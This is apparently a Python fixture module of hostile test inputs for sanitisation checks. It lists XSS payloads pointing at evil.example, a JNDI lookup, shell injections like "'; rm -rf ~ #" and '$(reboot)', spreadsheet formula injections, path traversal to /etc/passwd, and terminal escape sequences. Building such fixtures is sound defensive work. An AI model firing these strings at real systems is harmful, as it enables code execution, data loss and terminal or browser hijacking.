"""Text as attackers write it into package fields, log lines and file names."""

HOST = "evil.example"
_TEXTS = (
    "<script>fetch('https://evil.example/')</script>", "<ScRiPt src=//evil.example/x.js>",
    "<img src=https://evil.example/x.png onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example>", "<style>@import 'https://evil.example/a.css'</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href='javascript:alert(1)'>click</a>", "</pre></article><h1>clean</h1>", "</title><b>x",
    "</text></svg><b>x", "</style><b>x", "<!-- open", "-->", "<![CDATA[", "<?php", "<!DOCTYPE x>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "`onmouseover=alert(1)",
    "&lt;script&gt;", "&#60;b&#62;", "&#x3c;b>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}",
    "{# x #}", "${7*7}", "%s%n", "\\", "\\\\`", "\\|", "|", "a | b\n---|---\nc | d",
    "[click](https://evil.example)", "[click](javascript:alert(1))", "[^1]: note", "[x]",
    "![x](https://evil.example/x)", "![x][1]\n\n[1]: https://evil.example",
    "[1]: https://evil.example", "<https://evil.example>", "https://evil.example/path",
    "http://evil.example", "www.evil.example", "evil.example", "mallory@evil.example",
    "mailto:mallory@evil.example", "ftp://evil.example", "xmpp:mallory@evil.example",
    "//evil.example", "`code`", "``", "```\nout", "~~~\nout", "`",
    "*bold*", "**bold**", "_em_", "__strong__", "~~gone~~", "# heading", "heading\n===", "---",
    "- item", "+ item", "* item", "1. item", "1) item", "> quote", "    code", "\tcode",
    "- [ ] task", "two  \nlines", "\n\n# heading", "\r\n\r\n- item", "@mallory", "#1", ":tada:",
    "$x^2$", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m", "\x00\x08\x7f", "abc\u202etxt.exe", "\u2066iso\u2069\u200e\u200f\u061c",
    "zero\u200bwidth\ufeff\u2060", "\u2028\u2029\x85", "\ud800 alone",
    "tag\U000e0041\U000e007f", "vs\ufe0f\U000e0100", "\u3164\u115f", "../../etc/passwd",
    "=cmd|' /C calc'!A0", "'; rm -rf ~ #", "$(reboot)", "`reboot`", "x" * 400,
    "\u00e9\u65e5\u672c",
)
_CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), *range(127,
    160)))
_SEQUENCES = tuple(f"a{sequence}b" for sequence in (
    "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[8m", "\x1b[?1049h", "\x1b[5n", "\x1b[6n", "\x1bc",
    "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07", "\x1b]4;0;?\x1b\\", "\x1bP$q\x1b\\",
    "\x1b_x\x1b\\",
    "\x1b^x\x1b\\", "\x1bXx\x1b\\", "\x1b[20h", "\x1b(0", "\x9d0;title\x9c", "\x90x\x9c",
    "\r overwritten",
    "\x08\x08\x08gone", "\x1b[999;999H", "\x1b[31;5m"))
_UNSEEN = tuple(f"a{chr(code)}b" for code in (
    0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x180E, *range(0x200B, 0x2010),
    *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x3164, 0xFEFF, 0xFFA0, *range(0xFFF9, 0xFFFC),
    0xE0001, 0xE0020, 0xF0000, 0xFFFE, 0x1D173, 0xFFFF))
_MARKUP = tuple(f"<{element}>" for element in (
    "video src=x onerror=alert(1)", "audio autoplay onplay=alert(1)", "object data=//evil.example",
    "embed src=//evil.example", "form action=//evil.example", "input autofocus onfocus=alert(1)",
    "details open ontoggle=alert(1)", "body onload=alert(1)", "marquee onstart=alert(1)",
    "link rel=stylesheet href=//evil.example", "math href=javascript:alert(1)", "template",
    "plaintext",
    "textarea", "xmp", "noscript", "frameset onload=alert(1)", "table background=//evil.example",
    "a href=data:text/html,x", "svg><use href=//evil.example#x", "svg><animate onbegin=alert(1)",
    "img srcset=//evil.example", "button formaction=//evil.example", "select", "/html", "/body",
    "br"))
_FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"//evil.example\")",
             "=WEBSERVICE(\"//evil.example\")", "=IMPORTXML(\"//evil.example\",1)", "|calc",
             '"=1+1"',
             "=DDE(1;2;3)", "%0A=1+1", "\uff1d1+1", "'=1+1", " =1+1", ";=1+1", ',"=1+1",')
_TEMPLATES = ("${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}", "%(x)s",
    "{0}",
              "{x.__class__}", "$HOME", "%PATH%", "`id`", "$(id)", "&& id", "; id", "| id",
              "> /tmp/x",
              "\\x41", "\\u0041", "%00", "%0d%0aSet-Cookie: x", "\\n", "-rf", "--help", "~", "*",
              "?",
              "con", "nul.txt", "..\\..\\x", "/etc/passwd", "file:///etc/passwd", "\ud83d alone",
              "a\u0301" * 60, "\u05d0\u05d1\u05d2 abc", "\u0627\u0644 1.0", "\U0001f1e9\U0001f1ea",
              "1\ufe0f\u20e3")
PAYLOADS: tuple[str, ...] = (
    *_TEXTS, *_CONTROLS, *_SEQUENCES, *_UNSEEN, *_MARKUP, *_FORMULAS, *_TEMPLATES)
